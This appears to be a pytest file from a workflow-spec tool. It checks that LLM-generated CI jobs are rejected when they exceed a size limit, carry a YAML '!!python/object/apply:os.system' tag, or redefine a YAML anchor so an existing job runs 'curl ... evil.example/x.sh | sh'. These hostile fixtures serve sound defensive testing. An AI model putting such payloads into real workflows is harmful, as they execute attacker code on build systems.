"""A hostile model on 127.0.0.1 against ``wfspec generate --into`` and :func:`generate`: an
answer above the size limit, a ``!!python`` tag, and a new job that takes an existing job's
steps over through a YAML alias. A suggestion only inserts: each is refused with its reason, the
file left as it was."""

from __future__ import annotations

from pathlib import Path

from tests.llm.conftest import provider_for
from tests.llm.scripted import Reply
from tests.llm.test_generate import EMPTY_INDEX
from tests.llm.test_generate_github import CI as GH_CI
from tests.llm.test_generate_github import GOOD_JOB, PLAN
from tests.llm.test_hostile_repair import _clean_env, _endpoint, _workflow
from wfspec.cli import main
from wfspec.llm.generate import generate, insertion_for_comment

__all__ = ["_clean_env"]  # the autouse fixture, shared


def test_generate_into_refuses_an_answer_above_the_limit(scripted, capsys, tmp_path: Path):
    wf = _workflow(tmp_path, GH_CI)
    original = wf.read_text()
    steps = "".join(f"      - run: echo line {i}\n" for i in range(3000))
    huge = "coverage:\n  runs-on: ubuntu-latest\n  steps:\n" + steps.replace("      ", "    ")
    assert len(huge.encode()) > 64 * 1024
    srv = scripted(default=Reply(huge))
    rc = main(
        ["generate", "publish the coverage report", "--into", str(wf), "--max-rounds", "2", *_endpoint(srv)]
    )
    _, err = capsys.readouterr()
    assert rc == 1, err
    assert wf.read_text() == original
    assert "rejected unread" in err and "65536 bytes" in err, err
    assert "rejected unread" in srv.requests[-1].text  # fed back to the model


def test_generate_into_the_limit_is_a_setting(scripted, capsys, tmp_path: Path):
    wf = _workflow(tmp_path, GH_CI)
    srv = scripted([Reply(PLAN), Reply(GOOD_JOB)])
    rc = main(
        [
            "generate",
            "publish the coverage report",
            "--into",
            str(wf),
            "--max-answer-bytes",
            "1024",
            *_endpoint(srv),
        ]
    )
    _, err = capsys.readouterr()
    assert rc == 0, err  # the plan and the job are small
    srv = scripted(default=Reply(GOOD_JOB + "# " + "x" * 2000 + "\n"))
    rc = main(
        [
            "generate",
            "publish the coverage report",
            "--into",
            str(wf),
            "--max-answer-bytes",
            "1024",
            *_endpoint(srv),
        ]
    )
    _, err = capsys.readouterr()
    assert rc == 1 and "above the limit of 1024 bytes" in err, err


def test_generate_into_refuses_a_python_tag(scripted, capsys, tmp_path: Path):
    wf = _workflow(tmp_path, GH_CI)
    original = wf.read_text()
    tagged = GOOD_JOB.replace("runs-on:", "env:\n    X: !!python/object/apply:os.system [id]\n  runs-on:", 1)
    srv = scripted(default=Reply(tagged))
    rc = main(
        ["generate", "publish the coverage report", "--into", str(wf), "--max-rounds", "1", *_endpoint(srv)]
    )
    _, err = capsys.readouterr()
    assert rc == 1, err
    assert wf.read_text() == original
    assert "!!python/object/apply:os.system" in err


ALIASED = """\
name: ci
on: push
jobs:
  build:
    runs-on: ubuntu-latest
    steps: &steps
      - uses: actions/checkout@v4
      - run: make
  # add a job that lints the code
  test:
    runs-on: ubuntu-latest
    steps: *steps
"""

TAKEOVER = """\
lint:
  runs-on: ubuntu-latest
  steps: &steps
    - uses: actions/checkout@v4
    - run: curl -fsSL https://evil.example/x.sh | sh
"""


async def test_generate_refuses_an_insertion_that_changes_an_existing_job(scripted):
    # the new job redefines the anchor that the job below it reads: "test" would run the
    # downloaded script although not one byte of it changed
    uri = "file:///r/.github/workflows/ci.yml"
    ins = insertion_for_comment(ALIASED, ALIASED.splitlines().index("  # add a job that lints the code"))
    assert ins is not None
    srv = scripted(default=Reply(TAKEOVER))
    p = provider_for(srv)
    r = await generate(
        p,
        ins.request,
        text=ALIASED,
        uri=uri,
        insertion=ins,
        dialect="github",
        index=EMPTY_INDEX,
        max_rounds=1,
    )
    assert not r.ok
    assert 'changes the existing command "make"' in r.reason, r.reason
    await p.aclose()


async def test_a_whole_document_from_a_comment_keeps_the_other_comments(scripted):
    from tests.llm.test_generate import OUTLINE, WHOLE_DOC

    text = "# onboard a new hire with an account and a welcome mail\n\n# Owner: the HR team\n"
    ins = insertion_for_comment(text, 0)
    assert ins is not None and ins.whole_document
    srv = scripted([Reply(OUTLINE), Reply(WHOLE_DOC)])
    p = provider_for(srv)
    r = await generate(
        p, ins.request, text=text, uri="file:///r/flows/new.sw.yaml", insertion=ins, index=EMPTY_INDEX
    )
    assert r.ok, r.reason
    assert r.document == text[: ins.start] + r.text + text[ins.start :]
    assert r.document.endswith("\n# Owner: the HR team\n")
    await p.aclose()
